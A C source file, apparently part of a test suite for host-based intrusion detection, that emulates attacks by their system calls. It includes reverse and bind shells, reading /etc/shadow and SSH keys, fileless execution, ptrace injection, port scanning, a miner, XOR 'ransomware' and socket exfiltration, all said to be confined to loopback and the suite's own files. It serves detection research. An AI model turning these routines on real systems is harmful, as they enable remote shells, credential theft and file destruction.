/* The attacks that stand out by the calls that they make: each the calls of a real one, made harmless. Those that make the
 * service's own calls on other things stand in touching.c.
 *
 * They run in the sandbox of the scenario suite only. Connections go to 127.0.0.1, whatever the control says; files that are
 * changed are the suite's own, in its folder and by their name; what is read of the host is wiped and goes nowhere; the image
 * that the kernel is asked to load is none. The one thing that hides an attack is padding by calls without effect, which is
 * what the mimicry attempts are there to measure (Wagner and Soto, "Mimicry attacks on host-based intrusion detection
 * systems", 2002). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "calls.h"

#define VICTIM "victim-"
#define MINERS 4
#define MINING_NS 2000000000u

static void shell_on(int fd)
{
    char *arguments[] = {"sh", NULL};
    for (int to = 0; to < 3; to++)
        CALL(SYS_dup2, fd, to);
    CALL(SYS_execve, "/bin/sh", arguments, environ);
    _exit(127);
}

/* Ends when the suite ends the session; the suite takes the time. */
static void reverse_shell(void)
{
    if (forked() == 0)
        shell_on(dial(control->port));
}

static void bind_shell(void)
{
    if (forked() != 0)
        return;
    struct sockaddr_in address = loopback(control->port);
    int one = 1, fd = (int)CALL(SYS_socket, AF_INET, SOCK_STREAM, 0);
    CALL(SYS_setsockopt, fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    CALL(SYS_bind, fd, &address, sizeof address);
    CALL(SYS_listen, fd, 1);
    int session = (int)CALL(SYS_accept, fd, NULL, NULL);
    if (session < 0)
        _exit(127);
    shell_on(session);
}

static void web_shell(void)
{
    atomic_fetch_add(&control->made, 1);
    if (system("(id; uname -a; cat /etc/passwd) >/dev/null 2>&1") == -1)
        atomic_store(&control->error, errno);
    done();
}

/* Looks where such a script looks. What it reads is wiped at once. */
static void read_secrets(void)
{
    static const char *const secrets[] = {
        "/etc/shadow", "/etc/gshadow", "/etc/passwd", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.ssh/authorized_keys",
        "/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_ed25519_key", "/root/.bash_history", "/root/.netrc",
    };
    char bytes[4096];
    for (size_t i = 0; i < sizeof secrets / sizeof *secrets; i++) {
        int fd = OPEN(secrets[i], O_RDONLY);
        if (fd < 0)
            continue;
        while (CALL(SYS_read, fd, bytes, sizeof bytes) > 0)
            ;
        explicit_bzero(bytes, sizeof bytes);
        CALL(SYS_close, fd);
    }
    done();
}

/* Runs a copy of /bin/true that is in no file. */
static void fileless_exec(void)
{
    char bytes[4096], *arguments[] = {"true", NULL};
    int from = OPEN("/bin/true", O_RDONLY), to = (int)CALL(SYS_memfd_create, "", MFD_CLOEXEC);
    long count;
    while ((count = CALL(SYS_read, from, bytes, sizeof bytes)) > 0)
        CALL(SYS_write, to, bytes, count);
    CALL(SYS_close, from);
    sigset_t before;
    block_children(&before);
    pid_t pid = forked();
    if (pid == 0) {
        CALL(SYS_rt_sigprocmask, SIG_SETMASK, &before, NULL, 8);
        CALL(SYS_execveat, to, "", arguments, environ, AT_EMPTY_PATH);
        _exit(127);
    }
    if (pid > 0)
        CALL(SYS_wait4, pid, NULL, 0, NULL);
    CALL(SYS_rt_sigprocmask, SIG_SETMASK, &before, NULL, 8);
    CALL(SYS_close, to);
    done();
}

/* Into a process that it forked for it. Reads a word and the registers, and writes the same back. */
static void ptrace_injection(void)
{
    static long word = 42;
    sigset_t before;
    block_children(&before);
    pid_t pid = forked();
    if (pid == 0)
        for (;;)
            pause();
    if (pid > 0 && CALL(SYS_ptrace, PTRACE_ATTACH, pid, 0, 0) == 0) {
        CALL(SYS_wait4, pid, NULL, __WALL, NULL);
#if defined(__x86_64__)
        struct user_regs_struct registers;
        CALL(SYS_ptrace, PTRACE_GETREGS, pid, 0, &registers);
        long read = 0;
        for (int i = 0; i < 8; i++)
            CALL(SYS_ptrace, PTRACE_PEEKDATA, pid, &word, &read);
        for (int i = 0; i < 8; i++)
            CALL(SYS_ptrace, PTRACE_POKEDATA, pid, &word, read);
        CALL(SYS_ptrace, PTRACE_SETREGS, pid, 0, &registers);
#endif
        CALL(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
    }
    if (pid > 0) {
        CALL(SYS_kill, pid, SIGKILL);
        CALL(SYS_wait4, pid, NULL, 0, NULL);
    }
    CALL(SYS_rt_sigprocmask, SIG_SETMASK, &before, NULL, 8);
    done();
}

static void port_scan(void)
{
    if (forked() != 0)
        return;
    for (uint32_t i = 0; i < control->ports; i++) {
        int fd = dial(control->port + i);
        if (fd >= 0)
            CALL(SYS_close, fd);
    }
    done();
    _exit(0);
}

static _Atomic int mining;

static void *miner(void *unused)
{
    static uint32_t lock;
    uint64_t end = monotonic_ns() + MINING_NS, hash = (uintptr_t)&end, nonce;
    while (monotonic_ns() < end) {
        CALL(SYS_getrandom, &nonce, sizeof nonce, 0);
        for (int i = 0; i < 20000; i++)
            hash = (hash ^ nonce) * 0x9e3779b97f4a7c15u + (hash >> 29);
        nonce = hash;
        CALL(SYS_futex, &lock, FUTEX_WAKE_PRIVATE, 1);
        CALL(SYS_sched_yield);
        struct timespec rest = {.tv_nsec = 200000};
        CALL(SYS_nanosleep, &rest, NULL);
    }
    if (atomic_fetch_sub(&mining, 1) == 1)
        done();
    return unused;
}

/* The service's signals stay with its own threads. */
static void mine(void)
{
    pthread_attr_t detached;
    sigset_t all;
    sigfillset(&all);
    pthread_attr_init(&detached);
    pthread_attr_setdetachstate(&detached, PTHREAD_CREATE_DETACHED);
    pthread_attr_setsigmask_np(&detached, &all);
    atomic_store(&mining, MINERS);
    for (int i = 0; i < MINERS; i++) {
        pthread_t thread;
        int failed = pthread_create(&thread, &detached, miner, NULL);
        if (!failed)
            continue;
        atomic_store(&control->error, failed);
        if (atomic_fetch_sub(&mining, 1) == 1)
            done();
    }
    pthread_attr_destroy(&detached);
}

/* In a namespace of the child's own, out of which nothing comes: mounts are made private first, and no other is made when that
 * fails. The namespace ends with the child. */
static void mount_elsewhere(void)
{
    sigset_t before;
    block_children(&before);
    pid_t pid = forked();
    if (pid == 0) {
        int alone = CALL(SYS_unshare, CLONE_NEWNS) == 0 || CALL(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS) == 0;
        if (alone && CALL(SYS_mount, "none", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0) {
            CALL(SYS_mount, "none", victims, "tmpfs", 0, "size=64k");
            CALL(SYS_umount2, victims, MNT_DETACH);
        }
        _exit(0);
    }
    if (pid > 0)
        CALL(SYS_wait4, pid, NULL, 0, NULL);
    CALL(SYS_rt_sigprocmask, SIG_SETMASK, &before, NULL, 8);
    done();
}

/* With what is no module, so that it is refused whoever asks: a text file, and 64 zeros without an ELF header. */
static void kernel_module(void)
{
    static const char image[64];
    int fd = OPEN("/etc/passwd", O_RDONLY);
    CALL(SYS_finit_module, fd, "", 0);
    CALL(SYS_close, fd);
    CALL(SYS_init_module, image, sizeof image, "");
    done();
}

static void path_of(char *path, size_t size, const char *name, const char *suffix)
{
    snprintf(path, size, "%s%s%s", victims, name, suffix);
}

static void encrypt(const char *name)
{
    char path[800], locked[800], bytes[4096];
    path_of(path, sizeof path, name, "");
    path_of(locked, sizeof locked, name, ".locked");
    int fd = OPEN(path, O_RDWR | O_NOFOLLOW);
    if (fd < 0)
        return;
    long count = CALL(SYS_read, fd, bytes, sizeof bytes);
    for (long i = 0; i < count; i++)
        bytes[i] ^= 0x5a;
    CALL(SYS_lseek, fd, 0, SEEK_SET);
    if (count > 0)
        CALL(SYS_write, fd, bytes, count);
    CALL(SYS_close, fd);
    CALL(SYS_rename, path, locked);
    CALL(SYS_unlink, locked);
}

/* Only files that the suite wrote for it, told by folder and name. */
static void ransomware(void)
{
    char entries[16384];
    int folder = OPEN(victims, O_RDONLY | O_DIRECTORY);
    long count;
    while (folder >= 0 && (count = CALL(SYS_getdents64, folder, entries, sizeof entries)) > 0) {
        for (long at = 0; at < count;) {
            struct dirent64 *entry = (struct dirent64 *)(entries + at);
            at += entry->d_reclen;
            if (strncmp(entry->d_name, VICTIM, sizeof VICTIM - 1) == 0 && !strchr(entry->d_name, '.'))
                encrypt(entry->d_name);
        }
    }
    CALL(SYS_close, folder);
    done();
}

static void exfiltration(void)
{
    char path[800], name[32], bytes[1024];
    int to = dial(control->port);
    for (int i = 0; i < 100; i++) {
        snprintf(name, sizeof name, VICTIM "%03d", i);
        path_of(path, sizeof path, name, "");
        int fd = OPEN(path, O_RDONLY);
        if (fd < 0)
            continue;
        long count;
        while ((count = CALL(SYS_read, fd, bytes, sizeof bytes)) > 0)
            CALL(SYS_sendto, to, bytes, count, MSG_NOSIGNAL, NULL, 0);
        CALL(SYS_close, fd);
    }
    CALL(SYS_close, to);
    done();
}

void strike(struct control *shared, enum attack attack)
{
    control = shared;
    padded = attack >= MIMIC_REVERSE_SHELL && attack <= MIMIC_RANSOMWARE;
    switch (attack) {
    case REVERSE_SHELL: case MIMIC_REVERSE_SHELL: reverse_shell(); break;
    case BIND_SHELL: bind_shell(); break;
    case WEB_SHELL: web_shell(); break;
    case READ_SECRETS: read_secrets(); break;
    case FILELESS_EXEC: fileless_exec(); break;
    case PTRACE_INJECTION: ptrace_injection(); break;
    case PORT_SCAN: port_scan(); break;
    case MINER: mine(); break;
    case MOUNT: mount_elsewhere(); break;
    case KERNEL_MODULE: kernel_module(); break;
    case RANSOMWARE: case MIMIC_RANSOMWARE: ransomware(); break;
    case EXFILTRATION: case MIMIC_EXFILTRATION: exfiltration(); break;
    case NO_ATTACK: break;
    default: touch(attack);
    }
}
